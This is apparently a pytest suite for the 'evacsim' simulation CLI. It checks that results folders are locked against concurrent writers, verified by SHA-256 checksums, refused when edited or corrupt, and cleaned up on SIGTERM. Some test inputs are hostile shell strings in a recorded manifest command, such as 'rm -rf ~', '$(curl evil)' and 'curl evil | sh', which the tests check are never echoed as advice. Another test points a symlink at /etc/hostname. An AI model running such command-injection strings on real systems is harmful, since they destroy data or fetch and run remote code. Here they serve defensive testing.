"""Results a planner can trust (issue 22): a results folder is one study, written by one process, and verifiable.

Each case of the issue's "Results folders" list was reproduced on the old code: two writers mixed their
replications under one manifest, --force left another run's figures, the report embedded any file a
figure linked to, edited summaries and manifests were printed as results, a corrupt part was an
ArrowInvalid traceback, SIGTERM left half a folder, and a precision run stopped at its cap in silence.
Here each is refused (exit 3 or 4, naming the file) or repaired, as docs/RELIABILITY.md lists.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from sim.cli import app
from sim.experiment.manifest import CHECKSUMS, CONTENT, FIGURE_NAMES
from sim.plots.figures import FIGURE_ORDER
from sim.plots.redraw import AnalysisFolder
from tests.processes import processes_with

ROOT = Path(__file__).resolve().parent.parent
BASELINE = str(ROOT / "scenarios" / "qasrak_baseline.toml")
THEATRE = str(ROOT / "scenarios" / "syria_2026_theatre.toml")
SWEEP = ["sweep", BASELINE, "--vary", "escort.teams=3,6", "-n", "40", "--seed", "3", "--jobs", "1", "--batch-size", "8"]


def evacsim(*args: object, timeout: float = 180) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "sim", *map(str, args)], capture_output=True, text=True, cwd=ROOT, timeout=timeout)


def started(*args: object) -> subprocess.Popen:
    """A command as a user starts it in a terminal (SIGINT and SIGTERM at their defaults, whatever the test runner ignores)."""

    def defaults() -> None:
        signal.signal(signal.SIGINT, signal.SIG_DFL)
        signal.signal(signal.SIGTERM, signal.SIG_DFL)

    return subprocess.Popen(
        [sys.executable, "-m", "sim", *map(str, args)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT, preexec_fn=defaults
    )


def said(output: str) -> str:
    return " ".join(output.split())


def invoke(*args: object):
    return CliRunner().invoke(app, [str(a) for a in args])


def parts(folder: Path, table: str = "replications") -> list[Path]:
    return sorted((folder / f"{table}.parquet").glob("part-*.parquet"))


def wait_for(check, seconds: float = 120.0) -> None:
    deadline = time.monotonic() + seconds
    while not check():
        assert time.monotonic() < deadline, "the command never got there"
        time.sleep(0.05)


@pytest.fixture(scope="module")
def run_folder(tmp_path_factory) -> Path:
    """A finished run with its figures, as `evacsim run` writes it (copied by each test that damages it)."""
    out = tmp_path_factory.mktemp("integrity") / "run"
    done = evacsim("run", BASELINE, "-n", 40, "--jobs", 1, "--seed", 5, "--out", out)
    assert done.returncode == 0, done.stderr
    return out


def copy(folder: Path, tmp_path: Path, name: str = "copy") -> Path:
    shutil.copytree(folder, tmp_path / name, symlinks=True)
    return tmp_path / name


# ---- one study, one writer --------------------------------------------------------------------


def test_two_runs_forced_into_one_folder_at_once_the_second_is_refused_with_exit_4(tmp_path):
    out = tmp_path / "shared"
    first = started("run", BASELINE, "-n", 80, "--jobs", 1, "--seed", 1, "--out", out, "--force")
    wait_for(lambda: (out / ".evacsim.lock").exists() or first.poll() is not None)
    second = evacsim("run", BASELINE, "-n", 80, "--jobs", 1, "--seed", 2, "--out", out, "--force")
    _, stderr = first.communicate(timeout=300)
    assert first.returncode == 0, stderr
    assert second.returncode == 4, second.stderr
    text = said(second.stderr)
    assert "another evacsim command is writing this results folder now" in text and "--seed 1" in text and "Traceback" not in text
    rows = pd.read_parquet(out / "replications.parquet")
    assert len(rows) == 80 and rows["replication"].is_unique, "one study's replications, each once"
    assert json.loads((out / "manifest.json").read_text())["seed"] == 1
    assert not (out / ".evacsim.lock").exists(), "the lock file goes when the writer is done"


def test_while_a_folder_is_being_written_every_other_command_is_refused_and_then_takes_it(run_folder, tmp_path):
    from sim.experiment.storage import lock_folder, release_folder

    folder = copy(run_folder, tmp_path)
    lock_folder(folder)  # this test's process is the writer now, as a run still going would be
    try:
        for args in (["report", folder], ["plot", folder], ["run", BASELINE, "-n", 5, "--jobs", 1, "--out", folder, "--force"]):
            done = evacsim(*args)
            assert done.returncode == 4, (args, done.stderr)
            assert f"process {os.getpid()}" in said(done.stderr) and "another evacsim command is writing this results folder now" in said(done.stderr)
        found = evacsim("discover", folder, "--out", tmp_path / "found")
        assert found.returncode == 3 and "is writing this results folder now" in said(found.stderr)
    finally:
        release_folder(folder)
    assert not (folder / ".evacsim.lock").exists()
    assert evacsim("report", folder).returncode == 0


@pytest.mark.slow  # 20 s; the one-base --force into a run's folder is checked by test_cli_contract on every `make test`
def test_force_into_a_theatre_run_s_folder_leaves_none_of_its_files_and_keeps_the_user_s(tmp_path):
    out = tmp_path / "reused"
    assert evacsim("run", THEATRE, "-n", 4, "--jobs", 1, "--out", out, timeout=400).returncode == 0
    assert (out / "theatre_completion.png").exists() and (out / "network.json").exists()
    (out / "my notes.txt").write_text("mine")
    done = evacsim("run", BASELINE, "-n", 20, "--jobs", 1, "--out", out, "--force")
    assert done.returncode == 0, done.stderr
    assert not list(out.glob("theatre_*")) and not (out / "network.json").exists()
    assert (out / "my notes.txt").read_text() == "mine"
    assert invoke("report", out).exit_code == 0
    html = (out / "report.html").read_text()
    assert "Syria" not in html.split("<h2")[0] and "theatre_completion" not in html and "20 replications" in html


# ---- verifiable ---------------------------------------------------------------------------------


def test_the_manifest_records_each_part_s_and_the_summary_s_sha256(run_folder):
    import hashlib

    manifest = json.loads((run_folder / "manifest.json").read_text())
    recorded = manifest[CHECKSUMS]
    expected = {f"{p.parent.name}/{p.name}" for t in ("replications", "burndown") for p in parts(run_folder, t)} | {"summary.json"}
    assert set(recorded) == expected
    for name, digest in recorded.items():
        assert hashlib.sha256((run_folder / name).read_bytes()).hexdigest() == digest
    assert len(manifest[CONTENT]) == 64 and list(manifest)[-1] == "scenario"


@pytest.mark.parametrize("command", ["report", "plot"])
def test_an_edited_summary_is_refused_naming_it(run_folder, tmp_path, command):
    folder = copy(run_folder, tmp_path)
    summary = json.loads((folder / "summary.json").read_text())
    summary["p_15_to_30"]["estimate"] = 0.99  # 99.0% beside its old interval, as the issue found it printed
    (folder / "summary.json").write_text(json.dumps(summary))
    result = invoke(command, folder)
    assert result.exit_code == 3, result.output
    assert f"{folder / 'summary.json'}: is not the file evacsim wrote" in said(result.output) and "Traceback" not in result.output


@pytest.mark.parametrize("field", ["seed", "replications", "kind"])
def test_an_edited_manifest_is_refused_as_such_not_printed_nor_exit_4(run_folder, tmp_path, field):
    folder = copy(run_folder, tmp_path)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest[field] = {"seed": 99, "replications": 100000, "kind": "sweep"}[field]
    (folder / "manifest.json").write_text(json.dumps(manifest))
    (folder / "waits.png").unlink()  # so that report must draw
    for command in ("report", "plot"):
        result = invoke(command, folder)
        assert result.exit_code == 3, result.output
        text = said(result.output)
        assert "manifest.json: was changed after evacsim wrote it" in text and "cannot write" not in text
    assert not (folder / "report.html").exists()


def test_a_manifest_without_checksums_whose_kind_was_changed_is_named(run_folder, tmp_path):
    folder = copy(run_folder, tmp_path)
    manifest = json.loads((folder / "manifest.json").read_text())
    for key in (CHECKSUMS, CONTENT):  # as a folder written before checksums were recorded
        manifest.pop(key)
    manifest["kind"] = "sweep"
    (folder / "manifest.json").write_text(json.dumps(manifest))
    result = invoke("report", folder)
    assert result.exit_code == 3, result.output
    assert "says the folder holds the results of `evacsim sweep`, but it has no design.parquet" in said(result.output)
    manifest["kind"] = "rm -rf"
    (folder / "manifest.json").write_text(json.dumps(manifest))
    result = invoke("report", folder)
    assert result.exit_code == 3 and "its kind 'rm -rf' is none evacsim writes" in said(result.output)


@pytest.mark.parametrize("damage", ["truncated", "corrupt"])
def test_a_damaged_part_is_a_clear_error_for_every_command_that_reads_it(run_folder, tmp_path, damage):
    folder = copy(run_folder, tmp_path)
    victim = parts(folder)[1]
    data = victim.read_bytes()
    victim.write_bytes(data[: len(data) // 2] if damage == "truncated" else data[:200] + bytes(500) + data[700:])
    for args in (["report", folder], ["plot", folder], ["discover", folder, "--out", tmp_path / "found"]):
        result = invoke(*args)
        assert result.exit_code == 3, (args, result.output)
        text = said(result.output)
        assert victim.name in text and "ArrowInvalid" not in text and "Traceback" not in text
    assert not (tmp_path / "found").exists()


def test_every_reader_refuses_a_killed_runs_folder_with_the_same_message(tmp_path):
    """A run killed (SIGKILL) after some replications: no manifest, part of the replications. discover once answered
    from them (exit 0, a box from 240 of 5000); report, plot, discover and evidence --from all refuse it alike."""
    out = tmp_path / "killed"
    run = started("run", BASELINE, "-n", 5000, "--jobs", 1, "--seed", 5, "--out", out)
    wait_for(lambda: len(parts(out)) >= 2 or run.poll() is not None)
    run.kill()
    run.communicate(timeout=60)
    assert parts(out) and not (out / "manifest.json").exists()
    readers = [["report", out], ["plot", out], ["discover", out, "--out", tmp_path / "found"], ["evidence", BASELINE, "--from", out, "--out", tmp_path / "ev"]]
    messages = set()
    for args in readers:
        result = invoke(*args)
        assert result.exit_code == 3, (args, result.output)
        text = said(result.output)
        assert "Traceback" not in text
        messages.add(text[text.index(str(out)) :])
    assert len(messages) == 1, messages
    (message,) = messages
    assert "not a results folder" in message and "did not finish" in message and "--resume" in message
    assert "evidence, discover, nowcast, backtest or plan" in message  # every kind of folder, from where kinds are declared
    assert not (tmp_path / "found").exists() and not (tmp_path / "ev").exists()


def test_a_part_another_study_added_is_refused(run_folder, tmp_path):
    folder = copy(run_folder, tmp_path)
    extra = folder / "replications.parquet" / "part-000000000040-000000000050.parquet"
    shutil.copy(parts(folder)[0], extra)
    result = invoke("report", folder)
    assert result.exit_code == 3 and f"{extra}: is a part" in said(result.output)


def test_a_part_doctored_while_a_sweep_was_stopped_is_not_reused_by_resume(tmp_path):
    out = tmp_path / "sweep"
    process = started(*SWEEP, "--out", out)
    wait_for(lambda: len(parts(out)) >= 3 or process.poll() is not None)
    process.send_signal(signal.SIGTERM)
    process.communicate(timeout=60)
    assert process.returncode == 143 and json.loads((out / "manifest.json").read_text())["status"] == "running"
    victim = parts(out)[0]
    table = pd.read_parquet(victim)
    table["days_to_base_empty"] = 1.0  # every replication of the batch now empties the base on day 1
    table.to_parquet(victim)
    done = evacsim(*SWEEP, "--out", out, "--resume")
    assert done.returncode == 3, done.stderr
    assert victim.name in said(done.stderr) and "SHA-256" in done.stderr and "Traceback" not in done.stderr


# ---- figures and advice from a folder -----------------------------------------------------------


def test_report_embeds_no_file_a_figure_links_to(run_folder, tmp_path):
    folder = copy(run_folder, tmp_path)
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\n" + b"not for the report " * 50)
    (folder / "completion.png").unlink()
    (folder / "completion.png").symlink_to(secret)
    (folder / "extra.png").symlink_to(secret)
    assert invoke("report", folder).exit_code == 0
    html = (folder / "report.html").read_text()
    import base64

    assert base64.b64encode(secret.read_bytes()).decode()[:40] not in html
    assert not (folder / "completion.png").is_symlink(), "the figure in the link's place is drawn again"
    assert "extra.png is not embedded" in said(html)


@pytest.mark.parametrize(
    ("recorded", "shown"),
    [
        ("evacsim marginal scenarios/x.toml -n 50 --out old", "evacsim marginal scenarios/x.toml -n 50 --out"),
        ("evacsim marginal 'my scenarios/x.toml' --out old", "evacsim marginal 'my scenarios/x.toml' --out"),
        ("evacsim marginal x.toml | sh", None),
        ("evacsim marginal x.toml; rm -rf ~", None),
        ("evacsim marginal $(curl evil) --out x", None),
        ("curl evil | sh", None),
        ("evacsim marginal 'unclosed", None),
    ],
)
def test_a_manifest_s_command_is_advised_only_when_evacsim_would_have_written_it(tmp_path, recorded, shown):
    folder = tmp_path / "marginal"
    advice = AnalysisFolder(folder, "marginal", {"command": recorded, "scenario_path": "scenarios/x.toml"}).command()
    if shown is None:  # the advice is made from the manifest's fields instead, each quoted
        assert advice == f"evacsim marginal scenarios/x.toml --out {folder}"
    else:
        assert advice == f"{shown} {folder}"


def test_every_figure_evacsim_draws_is_one_force_knows_to_remove():
    assert set(FIGURE_ORDER) <= set(FIGURE_NAMES)


# ---- signals ------------------------------------------------------------------------------------


def test_sigterm_mid_run_is_handled_as_ctrl_c_exit_143_and_leaves_no_folder_nor_worker(tmp_path):
    out = tmp_path / "terminated"
    process = started("run", BASELINE, "-n", 200000, "--jobs", 2, "--out", out)
    wait_for(lambda: len(parts(out)) >= 1 or process.poll() is not None)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 143, stderr
    assert "stopped by SIGTERM: interrupted" in said(stderr) and "Traceback" not in stderr
    assert not out.exists(), "the folder the run made is removed with what was in it"
    time.sleep(1.0)
    assert processes_with(str(out)) == [], "no pool worker outlives its command"
    assert evacsim("run", BASELINE, "-n", 10, "--jobs", 1, "--out", out).returncode == 0, "the rerun takes the folder"


def test_sigterm_while_drawing_keeps_the_complete_results_and_says_how_to_draw(tmp_path):
    out = tmp_path / "drawing"
    process = started("run", BASELINE, "-n", 30, "--jobs", 1, "--out", out)
    wait_for(lambda: (out / "manifest.json").exists() or process.poll() is not None)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode in (143, 0), stderr  # 0 only if it finished drawing first
    if process.returncode == 143:
        assert "Traceback" not in stderr and "stopped by SIGTERM" in stderr
        assert not list(out.glob(".*.tmp")) and not (out / ".evacsim.lock").exists()
        assert invoke("plot", out).exit_code == 0, "the results are whole: plot draws the figures"


def test_sigterm_mid_sweep_says_so_and_keeps_the_finished_batches_for_resume(tmp_path):
    out = tmp_path / "sweep"
    process = started(*SWEEP, "--out", out)
    wait_for(lambda: len(parts(out)) >= 2 or process.poll() is not None)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 143, stderr
    text = said(stderr)
    assert "stopped by SIGTERM" in text and f"--out {out} --resume" in text and "Traceback" not in text
    assert parts(out)
    done = evacsim(*SWEEP, "--out", out, "--resume")
    assert done.returncode == 0, done.stderr
    assert len(pd.read_parquet(out / "replications.parquet")) == 80


# ---- caps are named -------------------------------------------------------------------------------


def test_a_precision_run_that_stops_at_its_cap_says_so_in_the_console_and_the_summary(tmp_path, monkeypatch):
    from sim.experiment import montecarlo

    monkeypatch.setattr(montecarlo, "MAX_REPLICATIONS", 300)  # the real cap, 200,000, is hours on a laptop
    result = invoke("run", "--no-figures", BASELINE, "--precision", "0.0001", "--jobs", 1, "--out", tmp_path / "capped")
    assert result.exit_code == 0, result.output
    summary = json.loads((tmp_path / "capped" / "summary.json").read_text())
    assert summary["replications"] == 300
    record = summary["precision"]
    assert record["stopped_at_cap"] is True and record["replications_cap"] == 300 and record["asked_half_width"] == 0.0001
    assert record["reached_half_width"] > 0.0001
    assert any("stopped at the cap of 300 replications" in w for w in summary["warnings"])
    assert "stopped at the cap of 300 replications before reaching the precision asked" in said(result.output)


def test_a_precision_run_that_reaches_its_precision_records_it_without_a_warning(tmp_path):
    import sim

    result = sim.run(BASELINE, precision=0.2, jobs=1, out=tmp_path / "reached", figures=False)
    record = result.summary["precision"]
    assert record["stopped_at_cap"] is False and record["reached_half_width"] <= 0.2
    assert not any("cap" in w for w in result.summary["warnings"])


# ---- all at once ----------------------------------------------------------------------------------


def test_fault_injection_every_reader_refuses_or_repairs_a_folder_with_a_clear_message(tmp_path):
    """Two studies into one folder at once, then a corrupt part, an edited summary and a linked figure: report, plot and
    discover each refuse with one paragraph naming the file (exit 3) or repair it (the figure), and a second writer is exit 4."""
    out = tmp_path / "study"
    first = started("run", BASELINE, "-n", 60, "--jobs", 1, "--seed", 1, "--out", out, "--force")
    wait_for(lambda: (out / ".evacsim.lock").exists() or first.poll() is not None)
    second = started("run", BASELINE, "-n", 60, "--jobs", 1, "--seed", 2, "--out", out, "--force")
    results = [(p, *p.communicate(timeout=300)) for p in (first, second)]
    assert sorted(p.returncode for p, _, _ in results) == [0, 4], [e for _, _, e in results]
    readers = [["report", out], ["plot", out], ["discover", out, "--out", tmp_path / "found"]]
    for args in readers:
        assert invoke(*args).exit_code == 0, args
    shutil.rmtree(tmp_path / "found")

    faults = {
        "corrupt part": lambda f: parts(f)[0].write_bytes(parts(f)[0].read_bytes()[:-300]),
        "edited summary": lambda f: (f / "summary.json").write_text((f / "summary.json").read_text().replace('"estimate": 0.', '"estimate": 0.9', 1)),
    }
    for fault, damage in faults.items():
        folder = copy(out, tmp_path, fault.replace(" ", "-"))
        damage(folder)
        named = parts(folder)[0].name if fault == "corrupt part" else "summary.json"
        for args in readers:
            result = invoke(*[folder if a == out else a for a in args])
            assert result.exit_code == 3, (fault, args, result.output)
            text = said(result.output)
            assert named in text and text.startswith("error:") and "Traceback" not in text, (fault, args)

    linked = copy(out, tmp_path, "linked")
    (linked / "waits.png").unlink()
    os.symlink("/etc/hostname", linked / "waits.png")
    assert invoke("report", linked).exit_code == 0
    assert not (linked / "waits.png").is_symlink(), "report drew the figure again in the link's place"
